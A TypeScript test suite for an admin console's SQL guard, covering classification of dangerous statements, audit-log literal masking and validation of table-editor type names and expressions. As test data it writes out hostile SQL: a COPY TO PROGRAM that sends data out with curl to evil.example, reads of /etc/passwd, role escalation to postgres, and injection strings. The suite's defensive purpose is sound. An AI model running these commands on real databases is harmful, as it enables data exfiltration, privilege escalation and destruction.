// The SQL guard's classification table, literal masking for the audit log, and the checks on type
// names and expressions the table editor accepts. Pure: the parser, no database.
import { describe, expect, test } from "bun:test";
import { maskLiterals } from "../src/admin/audit/mask.ts";
import { inspectBatch, isRefusal, type FindingKind } from "../src/admin/meta/guard.ts";
import { parseBatch } from "../src/admin/meta/parser.ts";
import { expression, typeName } from "../src/admin/meta/user-sql.ts";

const kinds = async (sql: string): Promise<FindingKind[]> => (await inspectBatch(await parseBatch(sql))).map((f) => f.kind);

describe("guard: one case per kind", () => {
  const cases: [string, FindingKind][] = [
    ["drop table posts", "drop"],
    ["drop index if exists posts_idx", "drop"],
    ["drop function f(int)", "drop"],
    ["drop schema app cascade", "drop"],
    ["drop role bob", "drop"],
    ["drop database other", "drop_database"],
    ["truncate posts, comments", "truncate"],
    ["delete from posts", "delete_without_where"],
    ["update posts set title = 'x'", "update_without_where"],
    ["alter table posts drop column body", "alter_drop"],
    ["alter table posts drop constraint posts_pkey", "alter_drop"],
    ["alter system set work_mem = '1GB'", "alter_system"],
    ["grant all on posts to public", "grant_public"],
    ["grant all on posts to anon", "grant_api_role"],
    ["alter table posts disable row level security", "disable_rls"],
    ["create policy p on posts using (true)", "permissive_policy"],
    ["alter role anon bypassrls", "role_attribute"],
    ["do language plpython3u $$ import os $$", "do_block"],
  ];
  for (const [sql, kind] of cases) {
    test(`${kind}: ${sql}`, async () => {
      expect(await kinds(sql)).toEqual([kind]);
    });
  }
});

describe("guard: harmless statements pass", () => {
  const cases = [
    "select * from posts",
    "delete from posts where id = 1",
    "update posts set title = 'x' where author_id = $1",
    "delete from posts where current of c",
    "insert into posts (title) values ('drop table posts')",
    "create table t (id int primary key)",
    "alter table posts add column body text, alter column title drop default",
    "grant select on posts to service_role",
    "copy posts to stdout",
    "create policy own on posts using (owner = auth.uid())",
    "create policy narrow on posts as restrictive using (true)",
    "create role reader nologin",
    "set local role anon",
    "set role authenticated",
    "reset all",
    "select set_config('request.jwt.claims', '{}', true)",
    "select set_config('role', 'service_role', true)",
    "explain delete from posts",
    "explain (analyze false) update posts set title = 'x'",
    "select $$; drop table posts; $$",
    "-- drop table posts\nselect 1",
    "do $$ begin update posts set title = 'x' where id = 1; end $$",
    "do $$ begin execute 'select 1'; end $$",
  ];
  for (const sql of cases) {
    test(sql.replace(/\n/g, " "), async () => {
      expect(await kinds(sql)).toEqual([]);
    });
  }
});

describe("guard: tricky cases", () => {
  test("a DELETE inside a CTE", async () => {
    expect(await kinds("with gone as (delete from posts returning *) select count(*) from gone")).toEqual(["delete_without_where"]);
  });

  test("an UPDATE in a CTE of an INSERT", async () => {
    expect(await kinds("with u as (update posts set n = n + 1 returning id) insert into log select id from u")).toEqual(["update_without_where"]);
  });

  test("WHERE that names no column filters nothing", async () => {
    expect(await kinds("delete from posts where true")).toEqual(["delete_without_where"]);
    expect(await kinds("update posts set x = 1 where 1 = 1")).toEqual(["update_without_where"]);
  });

  test("EXPLAIN ANALYZE executes, so it is checked", async () => {
    expect(await kinds("explain analyze delete from posts")).toEqual(["delete_without_where"]);
    expect(await kinds("explain (analyze, format json) update posts set x = 1 where true")).toEqual(["update_without_where"]);
  });

  test("PREPARE of a DELETE without WHERE", async () => {
    expect(await kinds("prepare wipe as delete from posts")).toEqual(["delete_without_where"]);
  });

  test("comments hiding a statement in a batch", async () => {
    const findings = await inspectBatch(await parseBatch("select 1; /* just a comment */ drop /* sneaky */ table posts; -- done"));
    expect(findings.map((f) => [f.index, f.kind, f.statement])).toEqual([[1, "drop", "drop /* sneaky */ table posts"]]);
  });

  test("multi-statement batch: every dangerous statement is reported, in order", async () => {
    expect(await kinds("select 1; truncate a; update b set x = 1 where id = 2; delete from c; grant select on d to public")).toEqual([
      "truncate",
      "delete_without_where",
      "grant_public",
    ]);
  });

  test("DO blocks: each embedded statement is classified", async () => {
    const sql = `do $$
      declare r record;
      begin
        for r in select id from posts loop
          if r.id > 10 then
            delete from comments;
          end if;
        end loop;
        truncate audit_copy;
      end $$`;
    const findings = await inspectBatch(await parseBatch(sql));
    expect(findings.map((f) => f.kind)).toEqual(["delete_without_where", "truncate"]);
    expect(findings[0]!.reason).toStartWith("in a DO block:");
  });

  test("DO blocks: EXECUTE of a constant is parsed; of anything else is dangerous", async () => {
    expect(await kinds("do $$ begin execute 'drop table posts'; end $$")).toEqual(["drop"]);
    expect(await kinds("do $$ begin execute 'drop table ' || 'posts'; end $$")).toEqual(["do_block"]);
    expect(await kinds("do $$ declare t text := 'posts'; begin execute format('drop table %I', t); end $$")).toEqual(["do_block"]);
  });

  test("DO blocks nested in DO blocks", async () => {
    expect(await kinds("do $a$ begin execute 'do $b$ begin delete from posts; end $b$'; end $a$")).toEqual(["delete_without_where"]);
  });

  test("ALTER DEFAULT PRIVILEGES … TO PUBLIC, GRANT role TO PUBLIC", async () => {
    expect(await kinds("alter default privileges in schema public grant select on tables to public")).toEqual(["grant_public"]);
  });

  test("DROP of other objects: views, policies, extensions, owned", async () => {
    expect(await kinds("drop view v; drop policy p on t; drop extension pgcrypto; drop owned by bob")).toEqual(["drop", "drop", "drop", "drop"]);
  });

  test("ALTER … DROP on other objects", async () => {
    expect(await kinds("alter type mood drop attribute x")).toEqual(["alter_drop"]);
    expect(await kinds("alter domain d drop constraint c")).toEqual(["alter_drop"]);
    expect(await kinds("alter publication supabase_realtime drop table posts")).toEqual(["alter_drop"]);
  });

  test("details carry the statement text and a reason", async () => {
    const [f] = await inspectBatch(await parseBatch("  TRUNCATE posts ;"));
    expect(f).toMatchObject({ index: 0, statement: "TRUNCATE posts", kind: "truncate", tables: [{ schema: null, name: "posts" }] });
    expect(f!.reason).toContain("every row");
  });
});

describe("guard: refused whatever is confirmed (server files, role changes, replication role)", () => {
  const cases: [string, FindingKind][] = [
    ["select pg_read_file('/etc/passwd')", "server_file_access"],
    ["select pg_catalog.pg_read_binary_file('/etc/passwd')", "server_file_access"],
    ["select * from pg_ls_dir('/')", "server_file_access"],
    ["select pg_stat_file('/etc/passwd')", "server_file_access"],
    ["select lo_import('/etc/passwd')", "server_file_access"],
    ["select lo_export(1, '/tmp/x')", "server_file_access"],
    ["select dblink_exec('dbname=postgres', 'drop table t')", "server_file_access"],
    ["copy posts to '/tmp/x'", "server_file_access"],
    ["copy posts from '/etc/passwd'", "server_file_access"],
    ["copy posts to program 'curl -d @- evil.example'", "server_file_access"],
    ["copy posts from program 'id'", "server_file_access"],
    ["create extension dblink", "server_file_access"],
    ["set session_replication_role = replica", "replication_role"],
    ["set local session_replication_role = replica", "replication_role"],
    ["select set_config('session_replication_role', 'replica', true)", "replication_role"],
    ["reset role", "role_change"],
    ["set role postgres", "role_change"],
    ["set local role postgres", "role_change"],
    ["set role none", "role_change"],
    ["set session authorization postgres", "role_change"],
    ["reset session authorization", "role_change"],
    ["select set_config('role', 'postgres', false)", "role_change"],
    ["select set_config($1, 'postgres', false)", "role_change"],
    ["alter role plinth_console set role = 'postgres'", "role_change"],
    ["alter database postgres set session_replication_role = replica", "replication_role"],
  ];
  for (const [sql, kind] of cases) {
    test(`${kind}: ${sql}`, async () => {
      const findings = await inspectBatch(await parseBatch(sql));
      expect(findings.map((f) => f.kind)).toEqual([kind]);
      expect(findings.every(isRefusal)).toBe(true);
    });
  }

  test("inside DO blocks and EXECUTE of a constant too", async () => {
    expect(await kinds("do $$ begin perform pg_read_file('/etc/passwd'); end $$")).toEqual(["server_file_access"]);
    expect(await kinds("do $$ begin execute 'set role postgres'; end $$")).toEqual(["role_change"]);
    expect(await kinds("do $$ begin set session_replication_role = replica; delete from plinth.audit_log; end $$")).toEqual([
      "replication_role",
      "delete_without_where",
    ]);
  });
});

describe("guard: access that needs confirm", () => {
  test("grants to the API's client roles, of privileges, of roles and by default", async () => {
    expect(await kinds("grant select, insert on posts to authenticated")).toEqual(["grant_api_role"]);
    expect(await kinds("grant service_role to anon")).toEqual(["grant_api_role"]);
    expect(await kinds("alter default privileges in schema public grant all on tables to anon")).toEqual(["grant_api_role"]);
    expect(await kinds("revoke all on posts from anon")).toEqual([]);
  });

  test("RLS switched off, or the owner exempted", async () => {
    expect(await kinds("alter table posts no force row level security")).toEqual(["disable_rls"]);
    expect(await kinds("alter table posts enable row level security, force row level security")).toEqual([]);
  });

  test("permissive constant policies; ALTER POLICY to a constant", async () => {
    expect(await kinds("create policy p on posts for insert with check (true)")).toEqual(["permissive_policy"]);
    expect(await kinds("create policy p on posts using (1 = 1)")).toEqual(["permissive_policy"]);
    expect(await kinds("create policy p on posts using (false)")).toEqual([]);
    expect(await kinds("alter policy p on posts using (true)")).toEqual(["permissive_policy"]);
  });

  test("role attributes: any ALTER ROLE attribute, CREATE ROLE with powers", async () => {
    expect(await kinds("alter role authenticated superuser")).toEqual(["role_attribute"]);
    expect(await kinds("alter role bob login password 'x'")).toEqual(["role_attribute"]);
    expect(await kinds("create role sneaky bypassrls")).toEqual(["role_attribute"]);
    expect(await kinds("create role quiet nosuperuser nologin")).toEqual([]);
  });
});

describe("parser", () => {
  test("a syntax error anywhere in the batch is a 42601 with PostgreSQL's 1-based position", async () => {
    const err = await parseBatch("select 1; selec 2").catch((e) => e);
    expect(err.status).toBe(400);
    expect(err.code).toBe("42601");
    expect(err.data.position).toBe(11);
  });

  test("positions count characters, not UTF-8 bytes", async () => {
    const err = await parseBatch("select 'ünïcödé'; selec 2").catch((e) => e);
    expect(err.data.position).toBe("select 'ünïcödé'; ".length + 1);
    const [, second] = await parseBatch("select 'ünï'; select $1");
    expect(second).toMatchObject({ text: "select $1", offset: "select 'ünï'; ".length, paramCount: 1 });
  });
});

describe("audit masking", () => {
  const cases: [string, string][] = [
    ["select * from users where email = 'a@b.c' and age > 30", "select * from users where email = $1 and age > $2"],
    ["alter role bob password 'hunter2'", "alter role bob password $1"],
    ["insert into t values ($1, 'secret')", "insert into t values ($1, $2)"],
    ["create table t (a text default 'x')", "create table t (a text default $1)"],
    ["do $$ begin perform 'secret'; end $$", "do $1"],
    ["select 'ünï', \"Weird ' Name\" from t", 'select $1, "Weird \' Name" from t'],
  ];
  for (const [sql, masked] of cases) {
    test(sql, async () => {
      expect(await maskLiterals(sql)).toBe(masked);
    });
  }

  test("text that does not scan is cut at its first quote", async () => {
    expect(await maskLiterals("select 'unterminated secret")).toStartWith("select $?");
    expect(await maskLiterals("select 'unterminated secret")).not.toContain("secret");
  });
});

describe("type names and expressions from the table editor", () => {
  test("type names are re-rendered from the parse tree", async () => {
    expect(await typeName("text")).toBe('"text"');
    expect(await typeName("varchar(20)")).toBe('"pg_catalog"."varchar"(20)');
    expect(await typeName("numeric(10, 2)[]")).toBe('"pg_catalog"."numeric"(10, 2)[]');
    expect(await typeName("timestamp with time zone")).toBe('"pg_catalog"."timestamptz"');
    expect(await typeName("plinth.rich_text")).toBe('"plinth"."rich_text"');
    expect(await typeName("Double Precision")).toBe('"pg_catalog"."float8"');
  });

  test("anything but a type is refused", async () => {
    for (const bad of ["text); drop table x; --", "text, b int", "int default 1", "setof int", "", "1"]) {
      await expect(typeName(bad)).rejects.toMatchObject({ status: 400 });
    }
  });

  test("expressions must be one expression", async () => {
    expect(await expression("now()", "default")).toBe("(\nnow()\n)");
    expect(await expression("exists (select 1 from members m where m.user_id = auth.uid())", "using")).toContain("exists");
    expect(await expression("auth.uid() = user_id -- owner", "using")).toBe("(\nauth.uid() = user_id -- owner\n)");
    for (const bad of ["1); drop table x; --", "1) from pg_class where (true", "1), (2", "1; select 2", "(1", "1 union select 2"]) {
      await expect(expression(bad, "default")).rejects.toMatchObject({ status: 400 });
    }
  });
});
